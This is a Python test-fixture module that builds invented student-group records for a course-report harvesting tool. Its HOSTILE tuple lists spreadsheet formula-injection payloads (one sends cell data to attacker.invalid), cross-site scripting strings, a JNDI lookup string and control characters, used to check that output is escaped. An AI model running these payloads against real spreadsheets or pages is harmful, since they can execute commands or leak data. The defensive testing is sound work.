"""Builders of group records: invented groups, answers and evidence, of any size and temper.

`make_record("45")` is a full-size record: the 53 items and 31 answers of a 2026 report, Danish letters included.
`make_record("46", hostile=True)` holds text that attacks pages, cells and file names.
"""

from collections.abc import Sequence
from datetime import UTC, datetime

from harvester.models.evidence import Place
from harvester.models.hosting import CiFacts, CiRun, CiWord, GitHubSummary
from harvester.models.links import Link, LinkAnswer, classify_url
from harvester.models.problem import Problem
from harvester.models.record import (
    ChecklistItem,
    Contribution,
    GroupInfo,
    GroupMember,
    GroupRecord,
    SnapshotInfo,
    ToolInfo,
)
from harvester.models.report import Answer, Figure, Tick
from harvester.models.status import Claim, EvidenceWord, Status, Trace, Verdict
from harvester.models.template import Kind, Limits

SHA = "1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d"
ROOT = "7e57" * 10
OTHER_SHA = "99aa88bb77cc66dd55ee44ff3300112233445566"

ITEMS: tuple[tuple[str, str, Trace], ...] = (
    ("git_repo", "Week 1", Trace.ALWAYS),
    ("write_access", "Week 1", Trace.USUALLY),
    ("environment", "Week 1", Trace.ALWAYS),
    ("cookiecutter", "Week 1", Trace.ALWAYS),
    ("data_script", "Week 1", Trace.ALWAYS),
    ("model_and_train", "Week 1", Trace.ALWAYS),
    ("requirements_filled", "Week 1", Trace.ALWAYS),
    ("pep8", "Week 1", Trace.USUALLY),
    ("typing_docs", "Week 1", Trace.ALWAYS),
    ("data_versioning", "Week 1", Trace.ALWAYS),
    ("cli", "Week 1", Trace.ALWAYS),
    ("dockerfiles", "Week 1", Trace.ALWAYS),
    ("docker_built", "Week 1", Trace.RARELY),
    ("config_files", "Week 1", Trace.ALWAYS),
    ("hydra", "Week 1", Trace.ALWAYS),
    ("profiling", "Week 1", Trace.USUALLY),
    ("logging", "Week 1", Trace.ALWAYS),
    ("wandb", "Week 1", Trace.ALWAYS),
    ("sweep", "Week 1", Trace.USUALLY),
    ("lightning", "Week 1", Trace.ALWAYS),
    ("tests_data", "Week 2", Trace.ALWAYS),
    ("tests_model", "Week 2", Trace.ALWAYS),
    ("coverage", "Week 2", Trace.USUALLY),
    ("ci", "Week 2", Trace.ALWAYS),
    ("ci_matrix", "Week 2", Trace.ALWAYS),
    ("ci_lint", "Week 2", Trace.ALWAYS),
    ("pre_commit", "Week 2", Trace.ALWAYS),
    ("ci_data", "Week 2", Trace.ALWAYS),
    ("ci_registry", "Week 2", Trace.ALWAYS),
    ("gcp_bucket", "Week 2", Trace.USUALLY),
    ("docker_trigger", "Week 2", Trace.USUALLY),
    ("train_gcp", "Week 2", Trace.USUALLY),
    ("fastapi", "Week 2", Trace.ALWAYS),
    ("deploy_gcp", "Week 2", Trace.USUALLY),
    ("api_tests", "Week 2", Trace.ALWAYS),
    ("load_test", "Week 2", Trace.USUALLY),
    ("onnx_bentoml", "Week 2", Trace.ALWAYS),
    ("frontend", "Week 2", Trace.ALWAYS),
    ("drift_check", "Week 3", Trace.USUALLY),
    ("collect_io", "Week 3", Trace.ALWAYS),
    ("drift_api", "Week 3", Trace.USUALLY),
    ("system_metrics", "Week 3", Trace.ALWAYS),
    ("cloud_monitoring", "Week 3", Trace.RARELY),
    ("alerts", "Week 3", Trace.RARELY),
    ("dist_data", "Week 3", Trace.ALWAYS),
    ("dist_train", "Week 3", Trace.ALWAYS),
    ("optimise_inference", "Week 3", Trace.ALWAYS),
    ("docs", "Extra", Trace.ALWAYS),
    ("docs_published", "Extra", Trace.USUALLY),
    ("revisit_description", "Extra", Trace.RARELY),
    ("architecture_diagram", "Extra", Trace.ALWAYS),
    ("shared_understanding", "Extra", Trace.RARELY),
    ("code_uploaded", "Extra", Trace.ALWAYS),
)

QUESTIONS: tuple[tuple[str, str, int | None, int | None, int], ...] = (
    ("group_number", "Group number", None, None, 0),
    ("members", "Study numbers", None, None, 0),
    ("frameworks", "Frameworks not covered", 0, 200, 0),
    ("dependencies", "Managing dependencies", 100, 200, 0),
    ("structure", "Structure of the code", 100, 200, 0),
    ("code_quality", "Code quality and format", 100, 200, 0),
    ("tests", "Tests", 50, 100, 0),
    ("coverage", "Code coverage", 100, 200, 0),
    ("branches", "Branches and pull requests", 100, 200, 0),
    ("data_versioning", "Version control of data", 100, 200, 0),
    ("ci", "Continuous integration", 200, 300, 0),
    ("config", "Configuring experiments", 50, 100, 0),
    ("reproducibility", "Reproducibility", 100, 200, 0),
    ("tracking", "Experiment tracking", 200, 300, 3),
    ("docker", "Docker", 100, 200, 0),
    ("debugging", "Debugging and profiling", 100, 200, 0),
    ("gcp_services", "Cloud services", 50, 200, 0),
    ("compute_engine", "Compute engine", 100, 200, 0),
    ("bucket", "Bucket", None, None, 2),
    ("registry", "Artifact registry", None, None, 2),
    ("build_history", "Build history", None, None, 2),
    ("cloud_training", "Training in the cloud", 100, 200, 0),
    ("api", "API", 100, 200, 0),
    ("deployment", "Deployment", 100, 200, 0),
    ("api_tests", "API tests and load tests", 100, 200, 0),
    ("monitoring", "Monitoring", 100, 200, 0),
    ("credits", "Credits", 100, 200, 0),
    ("extra", "Anything extra", 0, 200, 0),
    ("architecture", "Architecture", 200, 400, 1),
    ("struggles", "Struggles", 200, 400, 0),
    ("contributions", "Contributions", 50, 300, 0),
)

KINDS: dict[str, Kind] = {"group_number": "group_number", "members": "members"}

HOSTILE: tuple[str, ...] = (
    '=HYPERLINK("http://attacker.invalid/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "<script>document.title='owned'</script>",
    '"><img src=x onerror="document.title=\'owned\'">',
    "[link](javascript:document.title='owned')",
    "![figure](https://attacker.invalid/pixel.png)",
    "<svg onload=document.title='owned'>",
    "</textarea></script></style><script>document.title='owned'</script>",
    "nul \x00 bell \x07 escape \x1b[31m vertical \x0b",
    "not a character \ufffe \uffff and a bidi \u202e tab",
    "_x0041_ escaped and \x7f deleted \x9b2J",
    "{{ 7*7 }} {% raw %} ${jndi:ldap://attacker.invalid}",
    "æøå ÆØÅ 東京 🚀 é",
    "long " + "ordlængde " * 4_000,
)

_SENTENCES = (
    "We kept the dependencies in one file and pinned what mattered.",
    "Vi har brugt få timer på at få træningen til at køre på både bærbar og server.",
    "The pipeline loads the picture data, trains a small network and writes the model to disk.",
    "A new member of the group clones the repository, makes an environment and runs one command.",
    "Each change went through a pull request that one other person had read.",
    "Målingen blev gentaget, og resultatet afveg ikke mere end én procent.",
    "Most of the time went to the parts that nobody had thought of before we began.",
)

_EVIDENCE_CYCLE = (
    EvidenceWord.FOUND,
    EvidenceWord.FOUND,
    EvidenceWord.FOUND,
    EvidenceWord.PARTIAL,
    EvidenceWord.FOUND,
    EvidenceWord.ABSENT,
    EvidenceWord.FOUND,
    EvidenceWord.UNVERIFIABLE,
    EvidenceWord.FOUND,
    EvidenceWord.UNKNOWN,
)


def make_record(
    group_id: str = "45",
    *,
    status: Status = Status.OK,
    hostile: bool = False,
    variant: int = 0,
    items: int = len(ITEMS),
    questions: int = len(QUESTIONS),
    sha: str = SHA,
    root: str = ROOT,
    members: Sequence[str] | None = None,
    name: str | None = None,
    host: str = "https://github.com",
) -> GroupRecord:
    """One group's record.

    Parameters
    ----------
    status
        Anything but `ok` and `no_report` leaves out the snapshot; anything but `ok` leaves out answers and items.
    hostile
        Whether names, answers, sentences and places hold text that attacks the reader's program.
    variant
        Another number gives other answers, claims and verdicts to the same items.
    items, questions
        How many of the 53 items and 31 questions the report has.
    """
    number = int("".join(c for c in group_id if c.isdigit()) or "0")
    ids = tuple(members) if members is not None else tuple(f"s{number * 10 + i:06d}" for i in range(1, 5))
    repo_url = f"{host}/example-course/group-{group_id}"
    read = status is Status.OK
    mirrored = status in (Status.OK, Status.NO_REPORT)
    return GroupRecord(
        schema_version=1,
        tool=ToolInfo(version="0.1.0", config="dtu-02476-2026", config_sha256="0" * 64),
        status=status,
        problem=None if read else f"The harvest ended with the status {status.value}.",
        group=GroupInfo(
            id=group_id,
            name=name if name is not None else (HOSTILE[0] if hostile else f"Gruppe {group_id} Blåbærgrød"),
            repo_url=repo_url,
            members=tuple(
                GroupMember(id=one, name=HOSTILE[i % len(HOSTILE)] if hostile else f"Åse Ørsted {i}", github=f"user{i}")
                for i, one in enumerate(ids)
            ),
        ),
        snapshot=SnapshotInfo(
            sha=sha,
            committed_at="2026-01-23T22:14:00+01:00",
            branch="main",
            deadline="2026-01-23T23:59:00+01:00",
            report_path="reports/README.md" if read else None,
            method="committer_date",
            roots=(root,),
        )
        if mirrored
        else None,
        template="dtu-02476-2026" if read else None,
        questions=tuple(make_answer(n, hostile=hostile, variant=variant) for n in range(1, questions + 1))
        if read
        else (),
        checklist=tuple(
            make_item(n, hostile=hostile, variant=variant, repo_url=repo_url, sha=sha) for n in range(items)
        )
        if read
        else (),
        extra_items=(
            Tick(check="", section="Extra", text="We also baked a cake", claim=Claim.TICKED, line=104, written="x"),
        )
        if read
        else (),
        contributions=tuple(make_contribution(one, i, hostile=hostile) for i, one in enumerate(ids))
        if mirrored
        else (),
        problems=(
            Problem(
                code="member_missing", message="The report names 3 of 4 members.", line=110, path="reports/README.md"
            ),
            *((Problem(code="odd_text", message=HOSTILE[3], line=1, path=HOSTILE[1]),) if hostile else ()),
        )
        if read
        else (),
    )


def make_answer(number: int, *, hostile: bool = False, variant: int = 0) -> Answer:
    """The answer to question `number` (1-based); every ninth is left empty."""
    id_, title, low, high, figures = QUESTIONS[number - 1]
    answered = number % 9 != 0
    wanted = (low or 20) + 10 if number % 7 else max(1, (low or 20) - 30)
    text = _prose(wanted, number + variant) if answered else ""
    if number == 12 and answered:
        text += "\n\n```bash\npython train.py lr=1e-3  # a comment\n```\n\n| lr | score |\n|---|---|\n| 0.1 | 0.9 |\n"
    if hostile and answered:
        text = HOSTILE[(number + variant) % len(HOSTILE)]
    words = len(text.split())
    problems = []
    if answered and low and words < low:
        problems.append(
            Problem(code="too_short", message=f"{words} words, {low} to {high} asked for", line=100 + number * 20)
        )
    if not answered:
        problems.append(Problem(code="empty_answer", message="nothing is written here", line=100 + number * 20))
    return Answer(
        number=number,
        id=id_,
        title=title,
        kind=KINDS.get(id_, "prose"),
        answered=answered,
        text=text,
        words=words,
        limits=Limits(min_words=low, max_words=high, min_images=1 if figures else 0, max_images=figures or 0),
        course_words=words + 3,
        course_passes=bool(answered and not problems),
        images=tuple(
            Figure(
                written=f"figures/målinger {i}.png",
                path=f"reports/figures/målinger {i}.png",
                exists=i != 2,
                alt=HOSTILE[9] if hostile else f"Figure {i} of question {number}",
                line=101 + number * 20,
                media_type="image/png" if i != 2 else None,
                problem=None if i != 2 else "the file is not there",
            )
            for i in range(figures)
        )
        if answered
        else (),
        problems=tuple(problems),
        line=100 + number * 20,
        end_line=110 + number * 20,
    )


def make_item(
    index: int,
    *,
    hostile: bool = False,
    variant: int = 0,
    repo_url: str = "https://github.com/example-course/group-45",
    sha: str = SHA,
) -> ChecklistItem:
    """The item at `index` (0-based) of the list, with a verdict that fits claim and evidence."""
    id_, section, trace = ITEMS[index]
    claim = Claim.MISSING if index % 17 == 16 else Claim.UNTICKED if (index + variant) % 5 == 4 else Claim.TICKED
    evidence = _EVIDENCE_CYCLE[(index + variant) % len(_EVIDENCE_CYCLE)]
    shown = evidence in (EvidenceWord.FOUND, EvidenceWord.PARTIAL)
    title = id_.replace("_", " ").capitalize()
    places = tuple(
        Place(
            path=f"src/pakke/{id_}_{i}.py",
            line=10 + i,
            what=HOSTILE[(index + i) % len(HOSTILE)] if hostile else f"def {id_}(æble: int) -> None:",
            url=f"{repo_url}/blob/{sha}/src/pakke/{id_}_{i}.py#L{10 + i}",
        )
        for i in range(1 + index % 3)
    )
    return ChecklistItem(
        id=id_,
        section=section,
        text=f"{title} in your project (M{index % 32})",
        title=title,
        claim=claim,
        evidence=evidence,
        verdict=verdict_of(claim, evidence, trace),
        where=places if shown else (),
        why=HOSTILE[index % len(HOSTILE)]
        if hostile
        else f"{title}: {'seen in the package code' if shown else 'looked for in code, configs and workflows'}.",
        hints=(Place(path=f"commit:{sha[:7]}", what=f"Add {id_}", url=f"{repo_url}/commit/{sha}"),)
        if index % 10 == 5
        else (),
        blind_spots="" if shown else "Work done in a console is not seen.",
        trace=trace,
        line=None if claim is Claim.MISSING else 50 + index,
        written="" if claim is Claim.MISSING else "x" if claim is Claim.TICKED else " ",
    )


def make_contribution(member: str, index: int, *, hostile: bool = False) -> Contribution:
    """One member's part; the last of four could not be tied to the roster."""
    days = tuple((f"2026-01-{day:02d}", 1 + (day * (index + 2)) % 7) for day in range(5, 24, index + 1))
    return Contribution(
        member=None if index == 3 else member,
        names=(HOSTILE[2] if hostile else f"Åse Ørsted {index}", f"user{index}"),
        emails=(f"user{index}@example.invalid",),
        commits=sum(count for _, count in days),
        added=1200 // (index + 1),
        removed=300 // (index + 1),
        first="2026-01-05T09:00:00+01:00",
        last="2026-01-23T22:14:00+01:00",
        merges=index,
        active_days=len(days),
        by_day=days,
    )


def with_hosting(record: GroupRecord, *, text: str = "", conclusion: CiWord = CiWord.MIXED) -> GroupRecord:
    """The record with what GitHub tells and the links of the group; `text` stands in all that students choose."""
    run = f"{record.group.repo_url}/actions/runs/77"
    workflow = ".github/workflows/tests.yml"
    ci = CiFacts(
        exists=True,
        workflows=(workflow, f".github/workflows/{text}.yml"),
        ran=True,
        on_commit=conclusion is not CiWord.NO_RUNS,
        conclusion=conclusion,
        runs=()
        if conclusion is CiWord.NO_RUNS
        else (
            CiRun(workflow=f"Tests {text}", path=workflow, conclusion="failure", event="push", attempt=2, url=run),
            CiRun(
                workflow="Docs", path="", conclusion="success", event="push", finished_at="2026-01-23T21:20:00+00:00"
            ),
        ),
        taken_at="2026-01-23T23:05:00+00:00",
    )
    github = GitHubSummary(
        taken_at="2026-01-23T23:05:00+00:00",
        visibility="private",
        fork_of="example-course/group-9",
        renamed_to="example-course/group-45-new",
        created_at="2026-01-02T08:00:00+00:00",
        pushes=41,
        force_pushes=1,
        pulls=12,
        pulls_merged=10,
        pulls_reviewed=6,
        pulls_asked=8,
        protected=True,
        required_checks=(f"tests {text}",),
        pages=True,
        pages_url="https://example-course.github.io/group-45",
        releases=0,
        unknown={"collaborators": f"The token may not read them. {text}"},
    )
    asked = datetime(2026, 1, 23, 23, 10, tzinfo=UTC)
    service, other = "https://demo-45.example.run.app/docs", f"https://example.invalid/{text}"
    answers = (
        LinkAnswer(url=service, asked_at=asked, status=503),
        LinkAnswer(url=service, asked_at=asked.replace(hour=23, minute=40), status=200, final_url=service + "/"),
    )
    links = (
        Link(url=service, kind=classify_url(service), path="reports/README.md", line=300, question=24, answers=answers),
        Link(
            url=other,
            kind=classify_url(other),
            path="README.md",
            line=3,
            answers=(LinkAnswer(url=other, asked_at=asked, reason=f"The host is unknown. {text}"),),
        ),
    )
    return record.model_copy(update={"ci": ci, "github": github, "links": links})


def verdict_of(claim: Claim, evidence: EvidenceWord, trace: Trace) -> Verdict:
    """The standard's table, for records that no check has made."""
    if claim is not Claim.TICKED:
        return Verdict.UNCLAIMED if evidence is EvidenceWord.FOUND else Verdict.NOT_CLAIMED
    if evidence is EvidenceWord.ABSENT:
        return Verdict.UNSUPPORTED if trace is Trace.ALWAYS else Verdict.ASK
    return {EvidenceWord.FOUND: Verdict.CONFIRMED, EvidenceWord.PARTIAL: Verdict.WEAK}.get(evidence, Verdict.ASK)


def make_class(size: int = 5) -> tuple[GroupRecord, ...]:
    """A small class: mostly good groups, one hostile, and each kind of bad ending from the fourth on."""
    endings = (Status.NO_REPORT, Status.EMPTY, Status.UNREACHABLE, Status.REFUSED, Status.FAILED)
    return tuple(
        make_record(
            str(number),
            variant=number,
            hostile=number == 2,
            status=endings[(number - 4) % len(endings)] if number >= 4 and number % 2 == 0 else Status.OK,
        )
        for number in range(1, size + 1)
    )


def _prose(words: int, seed: int) -> str:
    text: list[str] = []
    while len(text) < words:
        text += _SENTENCES[(seed + len(text)) % len(_SENTENCES)].split()
    return " ".join(text[:words])
